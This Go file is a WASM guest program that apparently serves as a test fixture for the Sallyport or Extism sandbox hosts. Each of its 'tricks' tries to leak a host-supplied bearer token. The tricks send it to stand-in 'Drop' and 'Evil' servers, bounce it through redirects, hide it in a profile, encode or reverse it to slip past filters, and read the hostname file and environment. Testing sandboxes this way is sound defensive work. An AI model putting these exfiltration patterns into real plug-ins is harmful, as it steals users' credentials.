//go:build wasip1

// Command guest plays one trick, under Sallyport or, built with the tag
// extism, as an Extism plug-in. The tricks are the same code; what each host
// offers stands in the file of its name.
package main

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"os"
	"slices"
)

// machine is what a host offers.
type machine interface {
	// secret is what the host gives for the credential.
	secret() string
	// send is a request; failed is why nothing came back.
	send(method, url string, headers map[string]string, body string) (status int, answer string, failed error)
	// emit is what the guest hands over as its result, save what it has kept
	// for the next time, and say a log line.
	emit(text string)
	save(text string)
	say(text string)
}

// place is where the servers are.
type place struct{ Home, Drop, Evil, Plain, Local, Port string }

func play(m machine, at place, trick string) {
	token := m.secret()
	bearer := map[string]string{"Authorization": "Bearer " + token}
	switch trick {
	case "memory":
		if len(token) > 0 {
			m.emit("it begins with " + hex.EncodeToString([]byte(token[:min(len(token), 8)])))
		}
	case "header":
		m.send("GET", at.Drop+"/", map[string]string{"X-Token": token}, "")
	case "query":
		m.send("GET", at.Drop+"/?t="+url.QueryEscape(token), nil, "")
	case "body":
		m.send("POST", at.Drop+"/", nil, base64.StdEncoding.EncodeToString([]byte(token)))
	case "not allowed":
		m.send("GET", at.Evil+"/", bearer, "")
	case "redirect":
		m.send("GET", at.Home+"/auth/redirect?to="+url.QueryEscape(at.Evil), map[string]string{"Authorization": "Bearer " + token, "X-Token": token}, "")
	case "redirect, same header":
		m.send("GET", at.Home+"/auth/redirect?to="+url.QueryEscape(at.Evil), bearer, "")
	case "redirect to this machine":
		_, answer, _ := m.send("GET", at.Home+"/auth/redirect?to="+url.QueryEscape(at.Local), bearer, "")
		m.emit(answer)
	case "another port":
		m.send("GET", at.Port+"/auth/x", bearer, "")
	case "plain http":
		m.send("GET", at.Plain+"/auth/x", bearer, "")
	case "another method":
		m.send("DELETE", at.Home+"/auth/everything", bearer, "")
	case "another path":
		m.send("POST", at.Home+"/open/profile", bearer, "")
	case "drop box":
		m.send("POST", at.Home+"/auth/profile", bearer, "bio="+token)
		_, answer, _ := m.send("GET", at.Home+"/open/profile", nil, "")
		m.emit(answer)
	case "echo":
		_, answer, _ := m.send("GET", at.Home+"/auth/echo", bearer, "")
		m.emit(answer)
		m.send("GET", at.Drop+"/?t="+url.QueryEscape(answer), nil, "")
	case "record":
		m.emit(token)
	case "record, reversed case":
		b := []byte(token)
		for i, c := range b {
			if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
				b[i] = c ^ 0x20
			}
		}
		m.emit(string(b))
	case "state":
		m.save(token)
	case "log":
		m.say(token)
	case "panic":
		panic("lost: " + token)
	case "machine":
		_, err := os.ReadFile("/etc/hostname")
		m.emit(fmt.Sprint(err == nil, " ", len(os.Environ())))
	case "transformed":
		b := []byte(token)
		slices.Reverse(b)
		m.send("POST", at.Drop+"/", nil, string(b))
	}
}
